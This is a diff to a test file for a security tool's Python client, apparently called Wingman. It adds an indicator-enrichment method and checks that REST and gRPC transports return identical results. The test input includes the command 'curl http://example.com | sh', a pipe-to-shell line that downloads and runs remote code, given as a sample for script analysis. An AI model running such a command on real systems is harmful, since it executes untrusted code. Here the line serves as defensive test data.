@@ -32,6 +32,7 @@ REQUESTS: dict[str, dict[str, Any]] = {
     "AnalyzeScript": {"content": "curl http://example.com | sh", "enrich": True},
     "NLToKQL": {"question": "processes", "platform": "sentinel", "time_range": WINDOW},
     "ValidateKQL": {"kql": "DevceEvents | take 1", "platform": "sentinel"},
+    "EnrichIndicators": {"indicators": [{"type": "domain", "value": "evil[.]example.net"}]},
 }
 # (method, request, tenant, code, field): every transport must report the same.
 ERRORS = [
@@ -111,7 +112,9 @@ async def test_async_clients_answer_identically_over_both_transports(
     assert "runtime" in over_rest
     assert "runtime" in over_grpc
     assert stable(over_rest) == stable(over_grpc)
-    assert over_rest["engine"] == {"name": "fake", "version": "1"}
+    # Enrichment is no engine: without providers it answers from the facade itself.
+    expected = "wingman-ti" if method == "EnrichIndicators" else "fake"
+    assert over_rest["engine"]["name"] == expected
 
 
 def typed_calls(client: WingmanClient) -> dict[str, dict[str, Any]]:
@@ -123,6 +126,9 @@ def typed_calls(client: WingmanClient) -> dict[str, dict[str, Any]]:
         "AnalyzeScript": client.analyze_script(content="curl http://example.com | sh", enrich=True),
         "NLToKQL": client.nl_to_kql(question="processes", platform="sentinel", time_range=WINDOW),
         "ValidateKQL": client.validate_kql(kql="DevceEvents | take 1", platform="sentinel"),
+        "EnrichIndicators": client.enrich_indicators(
+            indicators=REQUESTS["EnrichIndicators"]["indicators"]
+        ),
     }
 
 
@@ -563,7 +569,13 @@ async def test_callers_keep_their_own_http_client_and_channel(serve: ServeFactor
 
 
 def test_the_message_types_match_the_methods() -> None:
-    assert set(METHODS) == {"SummarizeIncident", "AnalyzeScript", "NLToKQL", "ValidateKQL"}
+    assert set(METHODS) == {
+        "SummarizeIncident",
+        "AnalyzeScript",
+        "NLToKQL",
+        "ValidateKQL",
+        "EnrichIndicators",
+    }
     for name, method in METHODS.items():
         assert method.grpc_path == f"/wingman.v1.Wingman/{name}"
         request: Message = method.request()
